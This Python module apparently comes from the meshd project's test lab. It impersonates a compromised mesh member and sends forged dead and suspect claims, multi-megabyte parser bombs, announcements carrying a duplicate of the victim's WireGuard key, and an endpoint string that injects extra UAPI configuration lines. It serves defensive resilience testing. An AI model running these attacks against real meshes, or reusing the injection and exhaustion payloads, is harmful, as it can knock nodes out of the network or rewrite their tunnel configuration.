"""A hostile member for labs (issue #22): `python -m meshd.hostile --dir NODE_DIR ...`.

Not meshd. It holds a valid certificate and identity key (a lab node's directory) and uses the
WireGuard tunnel that node's meshd set up before it was killed (wireguard-go outlives it), so
its datagrams arrive from its own overlay address, authenticated by WireGuard. It answers
pings (so it stays a live member) and learns members from the announcements it receives. The
attacks (`--attacks`, comma-separated):

* `claims`: every `--claim-every` seconds, a first-hand dead claim about `--victim` at its
  current version to every member, plus suspect claims with invented senders;
* `bombs`: every `--bomb-every` seconds, to one member's stream port (the victim's with
  `--bomb-victim`, else each member in turn), one 16 MiB message of nested arrays and one
  push-pull reply of 16,384 garbage announcements;
* `dup-key`: every `--claim-every` seconds, its own announcement (a higher version) carrying
  the victim's current WireGuard key (also `--wg-key-of-victim`);
* `dup-next-key`: the same with the victim's next key, once the victim announces one (a
  rotation: `meshctl rotate`), as its current key;
* `own-key`: its own announcement with its real WireGuard key, through the tunnel and as a
  join request to every member's underlay meshd port: a `dup-key` round leaves it out of every
  WireGuard configuration, and only the underlay still reaches the others then;
* `endpoint`: every `--claim-every` seconds, its own announcement with an endpoint whose zone
  ID holds UAPI lines (`ENDPOINT_INJECTION`), built and signed by hand: `sign_announcement`
  refuses it;
* `probe`: a SWIM ping to the victim every `--probe-every` seconds; the report has the round
  trip of each answered one (how late a loaded node answers probes).

It prints one JSON line of what it sent when done. With `--control PATH` it runs until told to
quit, taking one attack round at a time from JSON datagrams on a Unix socket at PATH
(`{"attacks": [...], "seconds": S, "victim": NAME, ...}`, the options' names) and answering
each with the JSON report when the round is over. The lab kills it by PID.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import socket
import struct
import sys
import time
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from meshd import keyfiles
from meshd.adapters.store import StateStore
from meshd.core import encoding as enc
from meshd.core import wire
from meshd.core.announce import (
    ANNOUNCEMENT_DOMAIN,
    ANNOUNCEMENT_FORMAT,
    AnnouncementVerifier,
    Endpoint,
    Status,
    sign_announcement,
)
from meshd.core.cert import TrustAnchor, decode_certificate
from meshd.core.errors import RemoteProtocolError
from meshd.core.identity import SigningKey
from meshd.core.wire import Channel, DeadItem, Gossip, SuspectItem

ATTACKS = ("claims", "bombs", "dup-key", "dup-next-key", "own-key", "endpoint", "probe")
ENDPOINT_INJECTION = "::%x]:1\nremove=true\nendpoint=[::1"
"""Issue #22, finding 2: as a UAPI `endpoint=` value this ends the line, removes the peer and
starts another; its blank line would end the whole `set` transaction."""
PROBE_SEQ_BASE = 1 << 31
"""Sequence numbers of `probe` pings (the wire allows up to 2**32 - 1)."""


def _bomb() -> bytes:
    inner = enc.pack([0] * 15)
    n = (16 * 2**20 - 100) // len(inner)
    body = b"\xdd" + n.to_bytes(4, "big") + inner * n
    return wire.PREFIX + b"\x95\x09" + enc.pack(bytes(16)) + b"\xc0" + body + b"\x90"


def _garbage_reply() -> bytes:
    anns = [os.urandom(1000) for _ in range(wire.MAX_STREAM_ITEMS)]
    return wire.PREFIX + enc.pack([9, bytes(16), None, anns, []])


def _stream(host: str, port: int, data: bytes) -> None:
    try:
        with socket.create_connection((host, port), timeout=2) as s:
            s.sendall(struct.pack(">I", len(data)) + data)
    except OSError:
        pass


def _endpoint(text: str) -> Endpoint:
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def _v6(host: str) -> str:
    """`host` for an AF_INET6 socket (IPv4 as an IPv4-mapped address)."""
    return host if ":" in host else f"::ffff:{host}"


@dataclass
class Member:
    """What the hostile member knows of another member, from its newest announcement."""

    overlay: str
    version: int
    name: str
    wg_key: bytes
    next_wg_key: bytes | None
    underlay: tuple[Endpoint, ...]
    """Its announced endpoints' hosts with its meshd port (where join requests go)."""


@dataclass
class Round:
    """One attack round's settings (the command line's, or a control datagram's)."""

    attacks: frozenset[str]
    seconds: float
    victim: str
    claim_every: float = 1.0
    bomb_every: float = 5.0
    bomb_victim: bool = False
    probe_every: float = 0.01

    @classmethod
    def from_json(cls, d: dict[str, Any]) -> Round:
        unknown = set(d["attacks"]) - set(ATTACKS)
        if unknown:
            raise ValueError(f"no attack {', '.join(sorted(unknown))}")
        return cls(
            frozenset(d["attacks"]), float(d["seconds"]), str(d["victim"]),
            float(d.get("claim_every", 1.0)), float(d.get("bomb_every", 5.0)),
            bool(d.get("bomb_victim", False)), float(d.get("probe_every", 0.01)),
        )  # fmt: skip


class HostileMember:
    def __init__(self, directory: Path, mesh: str, port: int, endpoints: list[Endpoint]) -> None:
        self.identity = SigningKey(keyfiles.read_key(directory / "identity.key", secret=True))
        self.cert = decode_certificate(
            keyfiles.read_armored(directory / "node.cert", keyfiles.CERT_LABEL)
        )
        ca_pub = keyfiles.read_key(directory / "ca.pub", secret=False)
        self.verifier = AnnouncementVerifier(TrustAnchor(mesh, (ca_pub,)))
        self.port = port
        self.endpoints = endpoints
        store = StateStore(directory / "state")
        self.own_wg_key = store.wireguard_key().public
        self.version = max(store.version(), int(time.time() * 1000)) + 10_000
        self.sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((self.cert.addresses[0], port))
        self.underlay = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        """Join requests (unbound: nothing listens for the replies)."""
        self.members: dict[bytes, Member] = {}
        self.sent: Counter[str] = Counter()
        self._probes: dict[int, float] = {}
        self.rtt_ms: list[float] = []
        self._bomb, self._garbage = _bomb(), _garbage_reply()
        self._bombed = 0
        for raw in store.peers():  # what its meshd persisted
            self.learn(raw)

    def learn(self, raw: bytes) -> None:
        try:
            ann = self.verifier.verify(raw, time.time())
        except RemoteProtocolError:
            return
        if ann.node_id == self.identity.public:
            return
        old = self.members.get(ann.node_id)
        if old is None or old.version < ann.version:
            self.members[ann.node_id] = Member(
                ann.cert.addresses[0], ann.version, ann.name, ann.wg_public_key,
                ann.next_wg_public_key, tuple((h, ann.meshd_port) for h, _ in ann.endpoints),
            )  # fmt: skip

    def poll(self, timeout: float) -> None:
        """Wait up to `timeout` for one datagram: learn its announcements, answer a ping,
        time an ack of ours."""
        self.sock.settimeout(max(timeout, 0.0001))
        try:
            data, src = self.sock.recvfrom(65536)
        except TimeoutError:
            return
        received = time.monotonic()
        try:
            msg = wire.decode(data, Channel.OVERLAY)
        except RemoteProtocolError:
            return
        for item in getattr(msg, "items", ()):
            if isinstance(item, wire.AnnounceItem):
                self.learn(item.announcement)
        if isinstance(msg, wire.Ping):
            self.sock.sendto(wire.encode(wire.Ack(msg.seq)), src[:2])
        elif isinstance(msg, wire.Ack) and msg.seq in self._probes:
            self.rtt_ms.append((received - self._probes.pop(msg.seq)) * 1000)

    def find(self, name: str) -> tuple[bytes, Member] | None:
        return next(((i, m) for i, m in self.members.items() if m.name == name), None)

    def to_all(self, data: bytes, what: str, but: bytes | None = None) -> None:
        for node_id, m in self.members.items():
            if node_id != but:
                self.sock.sendto(data, (m.overlay, self.port))
                self.sent[what] += 1

    def claim_dead(self, vid: bytes, victim: Member) -> None:
        dead = wire.encode(Gossip((DeadItem(vid, victim.version, self.identity.public),)))
        forged = wire.encode(Gossip(tuple(
            SuspectItem(vid, victim.version, bytes([i]) * 32) for i in range(1, 9))))  # fmt: skip
        self.to_all(dead, "dead_claims", but=vid)
        for node_id, m in self.members.items():
            if node_id != vid:
                self.sock.sendto(forged, (m.overlay, self.port))
                self.sent["forged_suspicions"] += 8

    def announce(self, wg_key: bytes, what: str, join: bool = False) -> None:
        """Our own announcement, signed normally, with `wg_key` as the current key; with
        `join`, also as a join request to every member's underlay endpoints."""
        self.version += 1
        ann = sign_announcement(
            self.identity, self.cert, version=self.version, wg_public_key=wg_key,
            endpoints=self.endpoints, meshd_port=self.port, issued_at=int(time.time() * 1000),
        )  # fmt: skip
        self.to_all(wire.encode(Gossip((wire.AnnounceItem(ann.raw),))), what)
        if join:
            request = wire.encode(
                wire.JoinRequest(os.urandom(8), ann.raw, 0, wire.MemberState.UNKNOWN)
            )
            for m in self.members.values():
                for host, port in m.underlay:
                    with contextlib.suppress(OSError):  # an IPv4 endpoint on an IPv6 socket
                        self.underlay.sendto(request, (_v6(host), port))
                        self.sent["join_requests"] += 1

    def announce_injected_endpoint(self) -> None:
        """Our own announcement with `ENDPOINT_INJECTION` among its endpoints, signed by hand
        (as tests/unit/test_announce.py's hostile cases): what modified code can send."""
        self.version += 1
        endpoints = (*self.endpoints, (ENDPOINT_INJECTION, 51820))
        body = enc.pack(
            (ANNOUNCEMENT_FORMAT, self.cert.raw, self.version, self.own_wg_key, None, 0,
             endpoints, (), int(Status.ALIVE), self.port, int(time.time() * 1000), ())
        )  # fmt: skip
        raw = enc.pack((body, self.identity.sign(ANNOUNCEMENT_DOMAIN, body)))
        self.to_all(wire.encode(Gossip((wire.AnnounceItem(raw),))), "endpoint_injections")

    def bomb(self, target: str) -> None:
        _stream(target, self.port, self._bomb)
        _stream(target, self.port, self._garbage)
        self.sent["bombs"] += 2

    def probe(self, target: str) -> None:
        seq = PROBE_SEQ_BASE + self.sent["probes"]
        self._probes[seq] = time.monotonic()
        self.sock.sendto(wire.encode(wire.Ping(seq)), (target, self.port))
        self.sent["probes"] += 1

    def run(self, r: Round) -> dict[str, Any]:
        """One round of `r.attacks` for `r.seconds`; the report of what was sent."""
        self.sent.clear()
        self.rtt_ms = []
        self._probes.clear()
        now = time.monotonic()
        end = now + r.seconds
        next_claim = next_bomb = now + (0.0 if r.attacks <= {"own-key", "endpoint"} else 1.0)
        next_probe = now
        while (now := time.monotonic()) < end:
            wake = min(next_claim, next_bomb, next_probe if "probe" in r.attacks else end)
            self.poll(min(wake, end) - now)
            now = time.monotonic()
            found = self.find(r.victim)
            if found is None:
                continue
            vid, victim = found
            if "probe" in r.attacks and now >= next_probe:
                next_probe = max(next_probe + r.probe_every, now)
                self.probe(victim.overlay)
            if now >= next_claim:
                next_claim = now + r.claim_every
                if "claims" in r.attacks:
                    self.claim_dead(vid, victim)
                if "dup-key" in r.attacks:
                    self.announce(victim.wg_key, "dup_key_announcements")
                if "dup-next-key" in r.attacks and victim.next_wg_key is not None:
                    self.announce(victim.next_wg_key, "dup_next_key_announcements")
                if "own-key" in r.attacks:
                    self.announce(self.own_wg_key, "own_key_announcements", join=True)
                if "endpoint" in r.attacks:
                    self.announce_injected_endpoint()
            if "bombs" in r.attacks and now >= next_bomb and self.members:
                next_bomb = now + r.bomb_every
                if r.bomb_victim:
                    self.bomb(victim.overlay)
                else:
                    targets = sorted(m.overlay for m in self.members.values())
                    self.bomb(targets[self._bombed % len(targets)])
                    self._bombed += 1
        report: dict[str, Any] = {
            "sent": dict(self.sent), "members": sorted(m.name for m in self.members.values()),
        }  # fmt: skip
        if "probe" in r.attacks:
            report["rtt_ms"] = [round(x, 3) for x in self.rtt_ms]
            report["probes_unanswered"] = len(self._probes)
        return report

    def serve(self, path: Path) -> None:
        """Rounds from control datagrams on a Unix socket at `path` until `{"quit": true}`;
        between rounds it answers pings and learns."""
        ctl = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        with contextlib.suppress(FileNotFoundError):
            path.unlink()
        ctl.bind(str(path))
        ctl.setblocking(False)
        while True:
            self.poll(0.02)
            try:
                data, sender = ctl.recvfrom(65536)
            except BlockingIOError:
                continue
            command = json.loads(data)
            if command.get("quit"):
                return
            try:
                report = self.run(Round.from_json(command))
            except (KeyError, ValueError) as exc:
                report = {"error": str(exc)}
            ctl.sendto(json.dumps(report).encode(), sender)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="meshd.hostile")
    p.add_argument("--dir", type=Path, required=True, help="the lab node's directory")
    p.add_argument("--mesh", required=True)
    p.add_argument("--port", type=int, default=7946)
    p.add_argument("--victim", default="", help="victim's node name")
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--attacks", default="claims,bombs", help=f"of {', '.join(ATTACKS)}")
    p.add_argument("--claim-every", type=float, default=1.0)
    p.add_argument("--bomb-every", type=float, default=5.0)
    p.add_argument("--bomb-victim", action="store_true", help="bomb only the victim")
    p.add_argument("--probe-every", type=float, default=0.01)
    p.add_argument("--wg-key-of-victim", action="store_true", help="add the dup-key attack")
    p.add_argument(
        "--endpoint", action="append", default=[], metavar="HOST:PORT",
        help="own underlay endpoint to announce (repeatable)",
    )  # fmt: skip
    p.add_argument("--control", type=Path, metavar="PATH", help="take rounds from PATH")
    args = p.parse_args(argv)

    member = HostileMember(args.dir, args.mesh, args.port, [_endpoint(e) for e in args.endpoint])
    if args.control is not None:
        member.serve(args.control)
        return 0
    attacks = set(args.attacks.split(",")) | ({"dup-key"} if args.wg_key_of_victim else set())
    r = Round.from_json(
        {"attacks": sorted(attacks), "seconds": args.seconds, "victim": args.victim,
         "claim_every": args.claim_every, "bomb_every": args.bomb_every,
         "bomb_victim": args.bomb_victim, "probe_every": args.probe_every}
    )  # fmt: skip
    print(json.dumps(member.run(r)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
